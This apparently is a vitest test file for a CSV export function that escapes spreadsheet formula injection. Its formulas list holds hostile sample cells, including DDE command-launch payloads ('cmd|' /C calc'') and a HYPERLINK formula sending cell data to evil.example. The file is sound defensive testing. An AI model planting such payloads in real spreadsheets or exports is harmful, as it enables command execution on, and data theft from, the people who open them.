import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvHeader, csvRows } from "./csv-rows";

/** Parses like a spreadsheet: with each separator, and leniently. */
function cellsOf(csv: string, delimiter: string): string[] {
  const rows: string[][] = parse(csv, { delimiter, relax_quotes: true, relax_column_count: true, bom: true });
  return rows.flat();
}

const separators = [",", ";", "\t"];
const isLive = (cell: string) => {
  const start = cell.replace(/^[\s\p{C}"]+/u, "");
  return /^[=+\-@＝＋－＠]/u.test(start) && !/^[+-]?[\d\s().,/-]+$/.test(start);
};

const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1-1=0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "＝1+1",
  "＠SUM(A1)",
  '"=1+1"',
  '""=1+1',
  " =1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u00a0@SUM(A1)",
  "\u0000=1+1",
  "+49 151=1",
  "+1 555 0100 x",
];
const places: ((formula: string) => string)[] = [
  (formula) => formula,
  ...["\t", "\r", "\n", "\r\n", ";", ",", ";;", "; ", ', "', ';"', '";', "\u2028", "\v"].flatMap((separator) => [
    (formula: string) => separator + formula,
    (formula: string) => `hello${separator}${formula}`,
    (formula: string) => `one, two${separator}${formula}${separator}three\n${formula}`,
  ]),
];

describe("csvRows", () => {
  it("leaves no formula live, with any separator", () => {
    let checked = 0;
    for (const formula of formulas) {
      for (const place of places) {
        const csv = csvRows([["first", place(formula), place(formula), "last"]], "spreadsheet");
        for (const separator of separators) {
          expect({ csv, separator, live: cellsOf(csv, separator).filter(isLive) }).toEqual({
            csv,
            separator,
            live: [],
          });
          checked += 1;
        }
        // The same text is a live formula without escaping.
        const open = csvRows([["first", place(formula), "last"]], "plain");
        const lives = separators.some((separator) => cellsOf(open, separator).some(isLive));
        if (place === places[0]) expect({ formula, lives }).toEqual({ formula, lives: true });
      }
    }
    expect(checked).toBeGreaterThan(2000);
  });

  it("preserves each text, and adds no rows", () => {
    const texts = ["two\nlines", "two\r\nlines", "a\rb", 'say "hi"', "a,b", "a;b", "a\tb", "", " x ", "\n", '"', "007"];
    for (const dialect of ["spreadsheet", "plain"] as const) {
      const csv = csvRows([texts, texts], dialect);
      expect(parse(csv)).toEqual([texts, texts]);
      for (const line of csv.split("\r\n").slice(0, 1)) expect(line.startsWith('"')).toBe(true);
    }
  });

  it("quotes all texts, and no numbers", () => {
    expect(csvRows([["a", 1, -3.5, true, null, undefined, "12345678901234567890"]], "spreadsheet")).toBe(
      '"a",1,-3.5,true,,,"12345678901234567890"\r\n',
    );
  });

  it.each([
    "+49 151 12345678",
    "+15550100199",
    "+1 (555) 010-0199",
    "+44 20/7946.0958",
    "+(49) 151 123456",
    "+ 49 151 123456",
    "-3.5",
    "-3",
    "+3.5",
    "-1,5",
    "-1.234,56",
    "-1,234.56",
    "-12 %",
    "-1e-7",
    "-1.25e+10",
    "-3.14159",
    "-1 234 567.89",
    "-1 234.5",
    "-12,345",
    "1.10",
    "41111111111111112",
    "2023-11-15",
    "a = b",
    "x@example.com",
    "one - two",
    "x +1",
    "3-",
    "total: 1 + 1 = 2",
    "-1.234.567,89",
    "-1 234",
    "+12 345",
    " -3 ",
    "-3E7",
  ])("does not escape %s", (text) => expect(parse(csvRows([[text]], "spreadsheet"))).toEqual([[text]]));

  it.each(formulas)("changes nothing in the plain dialect: %j", (formula) => {
    expect(parse(csvRows([["x", `a;${formula}`]], "plain"))).toEqual([["x", `a;${formula}`]]);
  });

  it.each([
    "+49 1",
    "=1+491511234567",
    "+x49 151 123456",
    "=1-1 234",
    "-1234 567 ",
    "+12 34",
    "+1   555 0100",
    "+1 555---0100",
    `+${"1".repeat(20)} 1`,
    "+49 151 12345678 x",
    "=49 151 12345678",
    "-3.5.",
    "-3..5",
    "-3e",
    "-3 %%",
    "-1.23.456",
    "-3.5x",
    "- 3",
  ])("escapes %s, which only begins like a number", (text) => {
    expect(parse(csvRows([[text]], "spreadsheet"))).toEqual([[`'${text}`]]);
  });

  it("escapes column names, and quotes them only if necessary", () => {
    expect(csvHeader(["key", "var.a;=1+1", "=x", "two\nlines", 'size, "cm"'], "spreadsheet")).toBe(
      `key,"var.a;'=1+1",'=x,"two\nlines","size, ""cm"""\r\n`,
    );
  });
});
